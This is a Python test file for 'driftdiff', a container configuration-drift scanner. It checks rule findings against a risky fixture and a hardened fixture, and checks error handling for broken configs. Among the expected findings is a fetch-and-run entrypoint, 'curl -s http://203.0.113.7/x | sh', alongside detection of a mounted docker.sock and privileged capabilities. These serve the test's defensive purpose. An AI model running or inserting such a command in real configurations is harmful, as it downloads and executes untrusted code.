#!/usr/bin/env python3
"""driftdiff report --config: configuration drift end to end. The image is
diffed against itself, so every finding comes from the runtime config:
fixtures/config/docker-inspect.json is a risky container (every DD-CFG rule
fires), fixtures/config/oci-config.json a hardened one that matches
oci-umoci:latest (nothing fires). Broken configs exit 2 with one line
naming the file."""
import json
import os
import tempfile

from ddtest import Checker, fixture, run

IMAGE = fixture("oci-umoci")
BASE = ["report", "--format", "json", "--ref", "latest"]
TARGET = [IMAGE, IMAGE, "--target-ref", "latest"]

# rule -> (severity, substrings of the detail, container path or None)
RISKY = [
    ("DD-CFG-001", "medium", ["added AWS_SECRET_ACCESS_KEY (sha256:", "changed APP_MODE (sha256:"], None),
    ("DD-CFG-002", "high", ["runs /bin/sh -c 'curl -s http://203.0.113.7/x | sh'",
                            "the image runs /usr/bin/tool --serve --verbose"], None),
    ("DD-CFG-003", "high", ["runs as root (user 0) while the image sets USER 1000:1000",
                            "working directory /tmp, the image's /home/user"], None),
    ("DD-CFG-004", "low", ["added 2222/tcp (published)", "removed 53/udp"], None),
    ("DD-CFG-005", "critical", ["Privileged"], None),
    ("DD-CFG-006", "critical", ["SYS_ADMIN", "NET_ADMIN"], None),
    ("DD-CFG-007", "high", ["pid and network"], None),
    ("DD-CFG-008", "critical", ["host /var/run/docker.sock mounted read-write"], "/var/run/docker.sock"),
    ("DD-CFG-008", "critical", ["host / mounted read-write", "root filesystem"], "/host"),
    ("DD-CFG-008", "high", ["host /etc mounted read-only"], "/host/etc"),
    ("DD-CFG-009", "low", ["writable root filesystem; no-new-privileges not set"], None),
    ("DD-CFG-010", "low", ["example.com/driftdiff-umoci:latest"], None),
    ("DD-CFG-011", "high", ["the container runs image sha256:1111", "not the image given"], None),
]

SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"


def report(config, fmt="json"):
    args = list(BASE)
    args[args.index("json")] = fmt
    return run(*args, "--config", config, *TARGET)


def check_risky(c):
    path = fixture("config/docker-inspect.json")
    rc, out, err = report(path)
    c.check(rc == 1, f"risky: exit {rc}, want 1 (drift): {err}")
    if not c.check(out, "risky: no output"):
        return
    doc = json.loads(out)
    findings = doc["findings"]
    c.check(doc["changes"] == [], "risky: the image against itself has changes")
    c.check(all(f["rule"].startswith("DD-CFG-") for f in findings),
            f"risky: non-config findings: {[f['rule'] for f in findings]}")
    c.check(len(findings) == len(RISKY), f"risky: {len(findings)} findings, want {len(RISKY)}")
    for rule, sev, needles, where in RISKY:
        match = [f for f in findings if f["rule"] == rule and f["severity"] == sev and
                 (where is None or f["paths"] == [where]) and
                 all(n in (f["detail"] or "") for n in needles)]
        c.check(len(match) == 1, f"risky: no single {sev} {rule} {where or ''} with {needles}")
    c.check(doc["summary"]["highest_severity"] == "critical", "risky: highest severity not critical")
    # An env value never reaches a report, in any format.
    for fmt in ("json", "text", "sarif", "markdown"):
        rc, out, _ = report(path, fmt)
        c.check(rc == 1 and SECRET.encode() not in out,
                f"risky {fmt}: exit {rc} or an env value in the output")


def check_hardened(c):
    rc, out, err = report(fixture("config/oci-config.json"))
    c.check(rc == 0, f"hardened: exit {rc}, want 0: {err}")
    if out:
        doc = json.loads(out)
        c.check(doc["findings"] == [], f"hardened: findings {doc['findings']}")
    # --fail-on critical: the risky one still fails, on its critical findings.
    rc, _, err = run(*BASE, "--fail-on", "critical", "--config", fixture("config/docker-inspect.json"),
                     *TARGET)
    c.check(rc == 1, f"risky --fail-on critical: exit {rc}, want 1: {err}")


BROKEN = [
    ("truncated.json", '{"ociVersion": "1.1.0", "process": {"env": [', ["truncated"]),
    ("wrong-type.json", '[{"Config": {"Env": "A=1"}}]', ["Config.Env is not an array"]),
    ("two.json", '[{"Config": {}}, {"Config": {}}]', ["array of 2"]),
    ("shape.json", '{"hello": "world"}', ["neither a docker inspect document nor an OCI runtime config"]),
    ("huge.json", '{"ociVersion": "1", "process": {"env": [' + ",".join(['"A=1"'] * 70000) + ']}}',
     ["process.env has 70000 entries"]),
]


def check_broken(c):
    with tempfile.TemporaryDirectory() as tmp:
        for name, text, needles in BROKEN:
            path = os.path.join(tmp, name)
            with open(path, "w") as f:
                f.write(text)
            rc, out, err = report(path)
            lines = err.strip().splitlines()
            c.check(rc == 2, f"{name}: exit {rc}, want 2")
            c.check(out == b"", f"{name}: wrote to stdout on error")
            c.check(len(lines) == 1, f"{name}: {len(lines)} stderr lines: {err!r}")
            for n in [path] + needles:
                c.check(n in err, f"{name}: stderr lacks {n!r}: {err!r}")
        rc, out, err = report(tmp)
        c.check(rc == 2 and "not a regular file" in err and tmp in err,
                f"directory as --config: exit {rc}: {err!r}")
        missing = os.path.join(tmp, "missing.json")
        rc, out, err = report(missing)
        c.check(rc == 2 and missing in err, f"missing --config: exit {rc}: {err!r}")


def main():
    c = Checker()
    check_risky(c)
    check_hardened(c)
    check_broken(c)
    c.done()


if __name__ == "__main__":
    main()
